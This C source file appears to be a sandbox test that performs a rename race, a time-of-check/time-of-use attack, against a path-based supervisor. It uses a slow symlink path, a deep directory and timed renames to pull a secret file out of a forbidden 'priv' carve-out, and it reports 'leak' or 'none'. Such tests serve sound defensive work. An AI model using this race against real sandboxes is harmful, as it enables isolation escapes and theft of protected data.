/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A directory is moved into a carve-out, and the secret into it, while the
 * supervisor moves what it judged to lie in that directory elsewhere.
 *
 *   review-moves DIRECTORY SECONDS NSSUPERVISE OPTION... --
 *
 * DIRECTORY is granted for reading and writing, DIRECTORY/priv is not to be
 * read. The attack runs in the sandbox as "review-moves DIRECTORY SECONDS"; we
 * stay outside and put back what it cannot: nothing leaves a carve-out. The
 * first line of output is "leak" or "none", the second one the counts.
 */
#include <errno.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "attack.h"

#define SECRET "SECRET"
/* How far the second directory is: the first one was looked up before it. */
#define DEPTH 1500
/* So many steps through a link, and others are served meanwhile. */
#define STEPS 120
#define PATH_SIZE 4096

static const char *directory;
static char deep[2 * DEPTH + 1]; /* "a/a/…/" */
static char slow[2 * STEPS + 1]; /* "././…/" */

static const char *in(char ret[PATH_SIZE], const char *head, const char *middle,
		      const char *tail)
{
	int n = snprintf(ret, PATH_SIZE, "%s/%s%s%s", directory, head, middle,
			 tail);

	if (n < 0 || n >= PATH_SIZE)
		attack_die("a path is too long");
	return ret;
}

/* Outside. */

static void make_directory(const char *name)
{
	char path[PATH_SIZE];

	if (mkdir(in(path, name, "", ""), 0777) < 0 && errno != EEXIST)
		attack_die(path);
}

static void make_deep(void)
{
	char path[PATH_SIZE];
	int fd = open(in(path, "e", "", ""), O_PATH | O_DIRECTORY);

	for (int i = 0; i < DEPTH && fd >= 0; i++) {
		int next;

		if (mkdirat(fd, "a", 0777) < 0 && errno != EEXIST)
			attack_die("mkdir");
		next = openat(fd, "a", O_PATH | O_DIRECTORY);
		(void)close(fd);
		fd = next;
	}
	if (fd < 0)
		attack_die(path);
	(void)close(fd);
}

static void put(const char *name, const char *text)
{
	char path[PATH_SIZE];
	int fd = open(in(path, name, "", ""), O_WRONLY | O_CREAT | O_TRUNC,
		      0666);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		attack_die(path);
	(void)close(fd);
}

/* As it was. What is there when the sandbox starts has rules of its own. */
static void reset(bool is_first)
{
	char from[PATH_SIZE], to[PATH_SIZE];

	if (is_first) {
		make_directory("d");
		make_directory("e");
		make_deep();
	}
	(void)rename(in(from, "priv/d", "", ""), in(to, "d", "", ""));
	(void)unlink(in(to, "e/", deep, "f"));
	put("d/f", "fine");
	put("priv/secret", SECRET);
}

static void prepare(void)
{
	char path[PATH_SIZE];

	make_directory("");
	make_directory("priv");
	if (symlink(".", in(path, "link", "", "")) < 0 && errno != EEXIST)
		attack_die(path);
}

static pid_t start(char **argv, const int ask[2], const int tell[2])
{
	pid_t pid = fork();

	if (pid != 0)
		return pid;
	if (dup2(ask[1], 1) < 0 || dup2(tell[0], 0) < 0)
		attack_die("dup2");
	(void)execv(argv[0], argv);
	attack_die(argv[0]);
	return -1;
}

/* Each line is an answer for who called us, or asks us to begin anew. */
static int drive(char **argv)
{
	int ask[2], tell[2], status = 0;
	bool is_first = true;
	char line[256];
	FILE *lines;
	pid_t pid;

	prepare();
	if (pipe2(ask, O_CLOEXEC) < 0 || pipe2(tell, O_CLOEXEC) < 0)
		attack_die("pipe2");
	pid = start(argv, ask, tell);
	(void)close(ask[1]);
	(void)close(tell[0]);
	lines = fdopen(ask[0], "r");
	while (lines && fgets(line, sizeof(line), lines)) {
		if (strcmp(line, "reset\n") != 0) {
			(void)fputs(line, stdout);
			continue;
		}
		reset(is_first);
		is_first = false;
		if (write(tell[1], "g", 1) != 1)
			break;
	}
	(void)waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 99;
}

/* Inside. */

struct attack {
	char from[PATH_SIZE], to[PATH_SIZE], seen[16];
	bool is_used, is_moved, is_replaced;
	volatile bool is_over;
	pthread_barrier_t start, end;
	double delay, took; /* ms */
};

/* What is judged: a readable file, to where it is readable as well. */
static void use(struct attack *a)
{
	double start = attack_ms();
	ssize_t n = 0;
	int fd;

	a->is_used = rename(a->from, a->to) == 0;
	a->took = attack_ms() - start;
	fd = open(a->to, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, a->seen, sizeof(a->seen) - 1);
		(void)close(fd);
	}
	a->seen[n > 0 ? n : 0] = '\0';
}

static void *carry(void *data)
{
	struct attack *a = data;
	char from[PATH_SIZE], to[PATH_SIZE], secret[PATH_SIZE], file[PATH_SIZE];

	(void)in(from, "d", "", "");
	(void)in(to, "priv/d", "", "");
	(void)in(secret, "priv/secret", "", "");
	(void)in(file, "priv/d/f", "", "");
	for (;;) {
		double until;

		(void)pthread_barrier_wait(&a->start);
		if (a->is_over)
			return NULL;
		until = attack_ms() + a->delay;
		while (attack_ms() < until)
			;
		a->is_moved = rename(from, to) == 0;
		a->is_replaced = rename(secret, file) == 0;
		(void)pthread_barrier_wait(&a->end);
	}
}

static void ask_for_reset(void)
{
	char c;

	(void)puts("reset");
	(void)fflush(stdout);
	if (read(0, &c, 1) != 1)
		exit(99);
}

static int run(struct attack *a, int seconds)
{
	int n = 0, n_used = 0, n_moved = 0, n_replaced = 0;
	time_t deadline = attack_now() + seconds;
	bool is_leak = false;
	double usual = 1;

	while (!is_leak && attack_now() < deadline) {
		ask_for_reset();
		/* At any moment of what takes a while. */
		a->delay = usual * (n % 101) / 90;
		(void)pthread_barrier_wait(&a->start);
		use(a);
		(void)pthread_barrier_wait(&a->end);
		is_leak = strcmp(a->seen, SECRET) == 0;
		n++;
		n_used += a->is_used;
		n_moved += a->is_moved;
		n_replaced += a->is_replaced;
		usual = a->is_used ? (3 * usual + a->took) / 4 : usual;
	}
	a->is_over = true;
	(void)pthread_barrier_wait(&a->start);
	(void)printf("%s\nrounds %d, used %d, moved %d, replaced %d, %.2f ms\n",
		     is_leak ? "leak" : "none", n, n_used, n_moved, n_replaced,
		     usual);
	return n_used > 0 && n_moved > 0 && n_replaced > 0 ? 0 : 1;
}

static int attack(int seconds)
{
	static struct attack a;
	pthread_t thread;

	(void)in(a.from, "link/", slow, "d/f");
	(void)in(a.to, "e/", deep, "f");
	(void)pthread_barrier_init(&a.start, NULL, 2);
	(void)pthread_barrier_init(&a.end, NULL, 2);
	if (pthread_create(&thread, NULL, carry, &a) != 0)
		attack_die("pthread_create");
	return run(&a, seconds);
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 99;
	directory = argv[1];
	for (size_t i = 0; i < DEPTH; i++)
		memcpy(deep + 2 * i, "a/", 2);
	for (size_t i = 0; i < STEPS; i++)
		memcpy(slow + 2 * i, "./", 2);
	return argc > 3 ? drive(argv + 3) :
			  attack((int)strtol(argv[2], NULL, 10));
}
